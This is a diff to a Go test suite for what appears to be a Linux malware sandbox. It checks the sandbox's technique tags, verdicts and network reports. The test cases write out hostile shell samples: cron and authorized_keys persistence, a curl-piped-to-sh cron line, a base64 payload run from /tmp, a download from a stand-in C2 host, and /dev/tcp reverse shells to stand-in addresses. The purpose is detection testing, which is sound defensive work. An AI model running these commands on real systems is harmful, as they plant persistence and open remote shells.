@@ -1,10 +1,14 @@
+//go:build linux
+
 package sandbox
 
 import (
 	"context"
+	"debug/elf"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -91,6 +95,17 @@ func buildImplant(t *testing.T) string {
 	if b, err := cmd.CombinedOutput(); err != nil {
 		t.Fatalf("build implant: %v: %s", err, b)
 	}
+	// A static ELF: no program interpreter (dynamic loader) to run it.
+	f, err := elf.Open(out)
+	if err != nil {
+		t.Fatalf("implant is not an ELF: %v", err)
+	}
+	defer f.Close()
+	for _, p := range f.Progs {
+		if p.Type == elf.PT_INTERP {
+			t.Fatal("implant is not static: it has a program interpreter")
+		}
+	}
 	return out
 }
 
@@ -105,23 +120,34 @@ func TestDetonateSamples(t *testing.T) {
 		body       string // a shell script, or "" for the implant ELF
 		network    string
 		techniques []string
+		not        []string // techniques that would be wrong here
 		verdict    string
-		inTree     string // a command line in the tree, with one of techniques as its badge
-		file       string // a file reported, with a hash unless deleted
-		dest       string // a network destination reported
+		inTree     string            // a command line in the tree, with one of techniques as its badge
+		badges     map[string]string // command line → its only badges (comma-separated)
+		file       string            // a file reported, with a hash unless deleted
+		dest       string            // a network destination reported
 	}{
 		{name: "discovery", body: "id; uname -a; whoami; hostname; cat /etc/passwd >/dev/null; ps aux >/dev/null\n",
-			techniques: []string{"T1033", "T1082", "T1087.001"}, verdict: "suspicious", inTree: "whoami"},
+			techniques: []string{"T1033", "T1082", "T1087.001"}, verdict: "suspicious", inTree: "whoami",
+			badges: map[string]string{"whoami": "T1033", "uname -a": "T1082", "ps aux": "T1057"}},
 		{name: "systemd-persistence", body: "mkdir -p $HOME/.config/systemd/user\nprintf '[Service]\\nExecStart=/tmp/x\\n' > $HOME/.config/systemd/user/updater.service\n",
 			techniques: []string{"T1543.002"}, verdict: "suspicious", file: Home + "/.config/systemd/user/updater.service"},
+		// The system cron files are read-only in the sandbox: the writes
+		// fail, and the commands that tried are what is reported.
+		{name: "cron-persistence", body: "echo '*/5 * * * * curl -s http://198.51.100.7/m.sh | sh' | tee -a /etc/crontab >/dev/null\nsh -c \"echo '@reboot /tmp/.x' >> /etc/cron.d/updater\"\n",
+			techniques: []string{"T1053.003"}, verdict: "suspicious", inTree: "tee -a /etc/crontab"},
 		{name: "authorized-keys", body: "mkdir -p $HOME/.ssh\necho 'ssh-ed25519 AAAAC3Nza attacker@c2' >> $HOME/.ssh/authorized_keys\n",
 			techniques: []string{"T1098.004"}, verdict: "suspicious", file: Home + "/.ssh/authorized_keys"},
 		{name: "base64-payload", body: "echo 'IyEvYmluL3NoCmlkCg==' | base64 -d > /tmp/.p; chmod +x /tmp/.p; /tmp/.p\n",
-			techniques: []string{"T1222.002"}, verdict: "suspicious", inTree: "chmod +x /tmp/.p", file: "/tmp/.p"},
-		{name: "download", network: NetworkSink, body: "curl -s -m 5 -o /tmp/stage2 http://cdn.evil-c2.example/stage2; chmod +x /tmp/stage2\n",
-			techniques: []string{"T1105"}, verdict: "suspicious", dest: "cdn.evil-c2.example"},
+			techniques: []string{"T1140", "T1222.002", "T1564.001"}, verdict: "malicious", inTree: "/tmp/.p", file: "/tmp/.p"},
+		{name: "download", network: NetworkSink, body: "curl -s -m 5 -o /tmp/stage2 http://cdn.evil-c2.example/stage2\n",
+			techniques: []string{"T1105"}, verdict: "suspicious", inTree: "curl -s -m 5", dest: "cdn.evil-c2.example"},
 		{name: "reverse-shell", network: NetworkSink, body: "bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444; echo id >&3' \n",
-			techniques: []string{"T1059.004"}, verdict: "malicious", dest: "203.0.113.7:4444"},
+			techniques: []string{"T1059.004", "T1095"}, not: []string{"T1496"}, verdict: "malicious", inTree: "/dev/tcp/203.0.113.7/4444", dest: "203.0.113.7:4444"},
+		// IPv6 C2 reaches the sink too; the connection the collectors saw
+		// and what the sink recorded are one destination.
+		{name: "reverse-shell-ipv6", network: NetworkSink, body: "bash -c 'exec 3<>/dev/tcp/2001:db8::7/4444; echo id >&3' \n",
+			techniques: []string{"T1059.004", "T1095"}, verdict: "malicious", dest: "[2001:db8::7]:4444"},
 		{name: "self-deleting-elf", network: NetworkSink,
 			techniques: []string{"T1070.004"}, verdict: "malicious", inTree: SamplePath, dest: "203.0.113.7:4444"},
 	}
@@ -134,6 +160,10 @@ func TestDetonateSamples(t *testing.T) {
 				sample = script(t, c.body)
 			}
 			rep, _ := detonate(t, sample, Options{Network: c.network})
+			t.Logf("%s (%.1f): %v", rep.Verdict, rep.Score, rep.techniqueIDs())
+			for _, r := range rep.Rules {
+				t.Logf("  %s %s %s %v", r.Source, r.Severity, r.Title, r.Techniques)
+			}
 			seen := map[string]bool{}
 			for _, tq := range rep.Techniques {
 				seen[tq.ID] = true
@@ -141,6 +171,11 @@ func TestDetonateSamples(t *testing.T) {
 			for _, want := range c.techniques {
 				if !seen[want] {
 					t.Errorf("technique %s not reported: %v", want, rep.techniqueIDs())
+				}
+			}
+			for _, wrong := range c.not {
+				if seen[wrong] {
+					t.Errorf("technique %s reported: %v", wrong, rep.techniqueIDs())
 				}
 			}
 			if rank(rep.Verdict) < rank(c.verdict) {
@@ -151,6 +186,11 @@ func TestDetonateSamples(t *testing.T) {
 			}
 			if c.inTree != "" && !treeHas(rep.Tree, c.inTree, c.techniques) {
 				t.Errorf("%q with a badge of %v not in the tree", c.inTree, c.techniques)
+			}
+			for cmd, want := range c.badges {
+				if got := badgesOf(rep.Tree, cmd); got != want {
+					t.Errorf("badges of %q: %q, want %q", cmd, got, want)
+				}
 			}
 			if c.file != "" {
 				found := false
@@ -164,10 +204,10 @@ func TestDetonateSamples(t *testing.T) {
 			if c.dest != "" {
 				found := false
 				for _, d := range rep.Network {
-					found = found || (d.Dest == c.dest && len(d.Sink) > 0)
+					found = found || (d.Dest == c.dest && len(d.Sink) > 0 && d.Process != "")
 				}
 				if !found {
-					t.Errorf("destination %s not reported with what the sink recorded: %+v", c.dest, rep.Network)
+					t.Errorf("destination %s not reported with its process and what the sink recorded: %+v", c.dest, rep.Network)
 				}
 			}
 			if t.Failed() {
@@ -200,4 +240,20 @@ func treeHas(nodes []*Node, cmd string, techniques []string) bool {
 		}
 	}
 	return false
+}
+
+// badgesOf returns the badges of the first process whose command line is
+// cmd, sorted and comma-separated.
+func badgesOf(nodes []*Node, cmd string) string {
+	for _, n := range nodes {
+		if n.Cmdline == cmd {
+			b := slices.Clone(n.Techniques)
+			slices.Sort(b)
+			return strings.Join(slices.Compact(b), ",")
+		}
+		if b := badgesOf(n.Children, cmd); b != "" {
+			return b
+		}
+	}
+	return ""
 }
